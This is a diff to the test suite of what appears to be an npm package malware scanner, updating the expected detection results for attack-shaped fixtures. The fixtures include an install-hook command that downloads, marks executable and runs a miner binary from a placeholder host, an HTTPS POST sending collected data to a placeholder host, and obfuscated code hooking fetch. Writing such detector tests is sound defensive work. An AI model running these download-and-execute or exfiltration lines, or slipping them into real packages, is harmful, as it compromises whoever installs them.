@@ -23,7 +23,7 @@ describe('scan: attack shapes', () => {
         "exec('curl -sk https://example.invalid/bin -o ./helper-bin; chmod +x ./helper-bin; ./helper-bin -o pool.example.invalid');",
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['critical install-script-remote-code preinstall.js:2', 'low install-script package.json:5']);
+    expect(summary(r)).toEqual(['critical code-download-exec preinstall.js:2', 'critical install-script-remote-code preinstall.js:2', 'low install-script package.json:5']);
   });
 
   it('a Windows download via certutil in the install hook', async () => {
@@ -39,14 +39,14 @@ describe('scan: attack shapes', () => {
         "https.request({ hostname: 'example.invalid', method: 'POST' }).end(data);",
       ].join('\n'),
     });
-    expect(summary(r)).toEqual(['high install-script-recon index.js:2', 'low install-script package.json:5']);
+    expect(summary(r)).toEqual(['high install-script-recon index.js:2', 'high code-host-recon index.js:3', 'low install-script package.json:5']);
   });
 
   it('obfuscated code hooking network calls, loaded at require time (chalk/debug, 2025)', async () => {
     const ids = Array.from({ length: 150 }, (_, i) => `_0x${(0x3f00 + i).toString(16)}`);
     const body = `${ids.map((id, i) => `const ${id}=${i};`).join('')}\nconst _0xorig=window.fetch;window.fetch=function(){return _0xorig.apply(this,arguments)};fetch('https://example.invalid');\n`;
     const r = await scan({ main: 'index.js' }, { 'index.js': `module.exports = 1;\n${body}` });
-    expect(summary(r)).toEqual(['high obfuscator-signature index.js:2']);
+    expect(summary(r)).toEqual(['high obfuscator-signature index.js:2', 'low code-network-hook index.js:3']);
   });
 
   it('a decoder feeding a fresh module compiled from another file (event-stream, 2018)', async () => {
@@ -72,8 +72,10 @@ describe('scan: attack shapes', () => {
     });
     expect(summary(r)).toEqual([
       'critical credential-exfil bundle.js:2',
+      'critical code-exfiltration bundle.js:3',
       'critical self-propagation bundle.js:4',
       'high install-script-recon bundle.js:3',
+      'medium code-worm bundle.js:4',
       'medium install-script-shell bundle.js:4',
       'low install-script package.json:5',
     ]);
